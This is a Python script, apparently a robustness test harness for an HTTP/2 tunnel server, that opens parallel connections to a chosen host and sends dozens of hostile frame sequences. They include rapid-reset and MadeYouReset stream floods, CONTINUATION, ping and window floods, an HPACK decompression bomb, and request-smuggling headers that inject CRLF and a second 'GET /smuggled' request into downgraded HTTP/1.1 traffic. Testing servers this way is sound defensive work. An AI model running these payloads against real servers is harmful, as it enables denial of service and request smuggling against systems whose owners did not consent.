#!/usr/bin/env python3
"""Attacks on an HTTP/2 server, frame by frame: on a tunnel's listener (TLS), or on what is spoken inside a tunnel (plain).

    http2_attacks.py [--tls CERT KEY ROOT] [--authority A] HOST PORT NAME ...

Each attack has a connection of its own, all at once. Prints JSON: name to {"goaway": code or null, "text": of the GOAWAY,
"resets": {stream: code}, "ends": {stream: true}, "heads": {stream: bytes}, "end": "closed" | "open", "seconds"}.
"""

import argparse
import concurrent.futures
import json
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits, first=0):
    """RFC 7541 section 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes([*out, value])


def text(value):
    value = value if isinstance(value, bytes) else value.encode("latin-1")
    return integer(len(value), 7) + value


def literal(name, value, first=0):
    """A field without an index (or, with `first` 0x40, one that goes into the dynamic table)."""
    return bytes([first]) + text(name) + text(value)


def block(fields):
    return b"".join(literal(name, value) for name, value in fields)


def get(authority, path="/h2", more=()):
    return block([(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path), *more])


def connect(authority):
    return block([(":method", "CONNECT"), (":authority", authority)])


def streams(count, one):
    return b"".join(one(2 * number + 1) for number in range(count))


# Each takes the header block of a good request and gives the bytes to send after the preface.
ATTACKS = {
    "good": lambda good: frame(HEADERS, END_HEADERS | END_STREAM, 1, good),
    "rapid-reset": lambda good: streams(
        3000, lambda s: frame(HEADERS, END_HEADERS, s, good) + frame(RST, 0, s, b"\0\0\0\x08")),
    "too-many-streams": lambda good: streams(1000, lambda s: frame(HEADERS, END_HEADERS, s, good)),
    "made-you-reset": lambda good: streams(
        1500, lambda s: frame(HEADERS, END_HEADERS, s, good) + frame(WINDOW, 0, s, b"\0\0\0\0")),
    "continuation-flood": lambda good: frame(HEADERS, 0, 1, good) + frame(CONTINUATION, 0, 1, b"") * 200,
    "continuation-bytes": lambda good: frame(HEADERS, 0, 1, good) + frame(CONTINUATION, 0, 1, literal("x", "y" * 16000)) * 31,
    "settings-flood": lambda good: frame(SETTINGS, 0, 0) * 500,
    "ping-flood": lambda good: frame(PING, 0, 0, b"12345678") * 5000,
    "empty-data-flood": lambda good: frame(HEADERS, END_HEADERS, 1, good) + frame(DATA, 0, 1) * 3000,
    "priority-flood": lambda good: frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 20000,
    "window-flood": lambda good: frame(WINDOW, 0, 0, b"\0\0\0\1") * 40000,
    "unknown-flood": lambda good: frame(99, 0, 0, b"x") * 3000,
    "window-overflow": lambda good: frame(WINDOW, 0, 0, b"\x7f\xff\xff\xff"),
    "window-of-zero": lambda good: frame(WINDOW, 0, 0, b"\0\0\0\0"),
    "bad-hpack": lambda good: frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff\xff\xff\xff\xff\xff"),
    "hpack-table-too-large": lambda good: frame(HEADERS, END_HEADERS | END_STREAM, 1, integer(1 << 20, 5, 0x20) + good),
    # One entry of 3 KB in the table, named 8,000 times: 24 MB of fields out of 11 KB.
    "hpack-bomb": lambda good: frame(
        HEADERS, END_HEADERS | END_STREAM, 1, good + literal("x-bomb", "b" * 3000, 0x40) + bytes([0x80 | 62]) * 8000),
    "hpack-integer": lambda good: frame(HEADERS, END_HEADERS | END_STREAM, 1, good + b"\x0f" + b"\xff" * 16000 + b"\x01"),
    "frame-too-large": lambda good: b"\xff\xff\xff" + bytes([DATA, 0, 0, 0, 0, 1]),
    "even-stream": lambda good: frame(HEADERS, END_HEADERS | END_STREAM, 2, good),
    "stream-goes-back": lambda good: frame(HEADERS, END_HEADERS | END_STREAM, 5, good) + frame(
        HEADERS, END_HEADERS | END_STREAM, 3, good),
    "data-on-idle": lambda good: frame(DATA, 0, 7, b"x"),
    "reset-on-idle": lambda good: frame(RST, 0, 7, b"\0\0\0\0"),
    "interleaved": lambda good: frame(HEADERS, 0, 1, good) + frame(PING, 0, 0, b"12345678"),
    "push-promise": lambda good: frame(HEADERS, END_HEADERS, 1, good) + frame(PUSH, END_HEADERS, 1, b"\0\0\0\2" + good),
    "settings-of-wrong-size": lambda good: frame(SETTINGS, 0, 0, b"12345"),
    "settings-acknowledged-with-content": lambda good: frame(SETTINGS, ACK, 0, b"123456"),
    "window-setting-too-large": lambda good: frame(SETTINGS, 0, 0, b"\0\4\xff\xff\xff\xff"),
    "padding-larger-than-frame": lambda good: frame(HEADERS, END_HEADERS, 1, good) + frame(DATA, 8, 1, b"\xff12"),
    # A tiny window, and then nothing is ever taken: what is asked for must not pile up.
    "takes-nothing": lambda good: frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0") + streams(
        100, lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, good)),
    "silent": lambda good: b"",
}

# Requests that would say something else in HTTP/1.1: name to the fields, which stand as they are written.
USUAL = [(":method", "GET"), (":scheme", "http"), (":authority", "web"), (":path", "/down")]
SMUGGLED = "GET /smuggled HTTP/1.1\r\nhost: web\r\n\r\n"


def changed(name, value):
    return [(field, value if field == name else old) for field, old in USUAL]


DOWNGRADES = {
    "transfer-encoding": [*USUAL, ("transfer-encoding", "chunked")],
    "connection": [*USUAL, ("connection", "keep-alive")],
    "upgrade": [*USUAL, ("upgrade", "h2c")],
    "te-gzip": [*USUAL, ("te", "gzip")],
    "content-length-twice": [*USUAL, ("content-length", "0"), ("content-length", "4")],
    "content-length-word": [*USUAL, ("content-length", "+0")],
    "line-end-in-value": [*USUAL, ("x", "a\r\n\r\n" + SMUGGLED)],
    "line-feed-in-value": [*USUAL, ("x", "a\ntransfer-encoding: chunked")],
    "carriage-return-in-value": [*USUAL, ("x", "a\rb")],
    "nul-in-value": [*USUAL, ("x", "a\0b")],
    "colon-in-name": [*USUAL, ("transfer-encoding: chunked\r\nx", "y")],
    "space-in-name": [*USUAL, ("transfer-encoding ", "chunked")],
    "upper-case-name": [*USUAL, ("X-Upper", "y")],
    "empty-name": [*USUAL, ("", "y")],
    "line-end-in-path": changed(":path", "/ HTTP/1.1\r\nhost: web\r\n\r\n" + SMUGGLED),
    "space-in-path": changed(":path", "/a HTTP/1.1"),
    "empty-path": changed(":path", ""),
    "fragment-in-path": changed(":path", "/admin#x"),
    "path-without-slash": changed(":path", "admin"),
    "line-end-in-method": changed(":method", "GET /smuggled HTTP/1.1\r\nx: "),
    "space-in-method": changed(":method", "GET /smuggled"),
    "line-end-in-authority": changed(":authority", "web\r\nx: y"),
    "user-in-authority": changed(":authority", "a@web"),
    "address-in-scheme": changed(":scheme", "http://web/smuggled?"),
    # A path that is no path: HTTP/1.1 would read it as a whole address, for which the routes were not asked.
    "address-in-path": [(":method", "GET"), (":scheme", "x"), (":authority", "web"), (":path", "http://web/admin")],
    "address-in-path-of-http": changed(":path", "http://web/admin"),
    "path-of-another-scheme": [(":method", "GET"), (":scheme", "ftp"), (":authority", "web"), (":path", "admin")],
    "scheme-in-upper-case": [(":method", "GET"), (":scheme", "HTTP"), (":authority", "web"), (":path", "admin")],
    "path-twice": [*USUAL, (":path", "/smuggled")],
    "method-twice": [(":method", "POST"), *USUAL],
    "pseudo-after-field": [*USUAL[:3], ("x", "y"), USUAL[3]],
    "unknown-pseudo": [*USUAL, (":smuggled", "y")],
    "no-path": USUAL[:3],
    "no-method": USUAL[1:],
    "host-differs": [*USUAL, ("host", "other")],
}


def read(stream, seconds, until):
    """What the server says until it ends, or `until(result)`, or the time is over."""
    result = {"goaway": None, "text": "", "resets": {}, "ends": {}, "heads": {}, "settings": False, "end": "open"}
    started, data = time.monotonic(), b""
    while not until(result):
        left = started + seconds - time.monotonic()
        if left <= 0:
            break
        stream.settimeout(left)
        try:
            more = stream.recv(1 << 16)
        except TimeoutError:
            break
        except OSError:
            result["end"] = "closed"
            break
        if not more:
            result["end"] = "closed"
            break
        data += more
        while len(data) >= 9 and len(data) >= 9 + (length := int.from_bytes(data[:3], "big")):
            kind, flags, number = data[3], data[4], int.from_bytes(data[5:9], "big")
            payload, data = data[9:9 + length], data[9 + length:]
            if kind == SETTINGS and not flags & ACK:
                result["settings"] = True
            elif kind == GOAWAY:
                code = int.from_bytes(payload[4:8], "big")
                result["goaway"], result["text"] = code, payload[8:].decode(errors="replace")
            elif kind == RST:
                result["resets"][number] = int.from_bytes(payload, "big")
            elif kind == HEADERS:
                result["heads"].setdefault(number, payload.hex())
            if kind in (DATA, HEADERS) and flags & END_STREAM:
                result["ends"][number] = True
    result["seconds"] = time.monotonic() - started
    return result


def opened(arguments):
    """A connection whose server has sent its SETTINGS, or None with what came instead."""
    stream = socket.create_connection((arguments.host, arguments.port), timeout=10)
    if arguments.tls:
        certificate, key, root = arguments.tls
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.load_verify_locations(root)
        context.load_cert_chain(certificate, key)
        context.set_alpn_protocols(["h2"])
        stream = context.wrap_socket(stream)
    stream.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return stream, read(stream, 10, lambda result: result["settings"])


def attack(arguments, name):
    try:
        stream, first = opened(arguments)
        if not first["settings"]:
            return {**first, "end": "no http/2"}
        downgrade = DOWNGRADES.get(name)
        good = get(arguments.authority) if not arguments.tls else connect(arguments.authority)
        payload = frame(HEADERS, END_HEADERS | END_STREAM, 1, block(downgrade)) if downgrade else ATTACKS[name](good)
        # "silent" does not even acknowledge the SETTINGS of the server.
        acknowledgement = b"" if name == "silent" else frame(SETTINGS, ACK, 0)
        try:
            stream.settimeout(arguments.seconds)
            stream.sendall(acknowledgement + payload)
        except OSError:
            pass  # it has ended already: what it said is read
        done = (lambda r: r["ends"] or r["resets"]) if downgrade or name == "good" else (lambda r: False)
        return read(stream, arguments.seconds, lambda r: r["goaway"] not in (None, 0) or done(r))
    except OSError as error:
        return {"end": f"no connection: {error}", "goaway": None, "resets": {}, "ends": {}, "heads": {}}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--tls", nargs=3)
    parser.add_argument("--authority", default="web")
    parser.add_argument("--seconds", type=float, default=8)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("names", nargs="+")
    arguments = parser.parse_args()
    with concurrent.futures.ThreadPoolExecutor(len(arguments.names)) as pool:
        results = pool.map(lambda name: attack(arguments, name), arguments.names)
        json.dump(dict(zip(arguments.names, results)), sys.stdout)


if __name__ == "__main__":
    main()
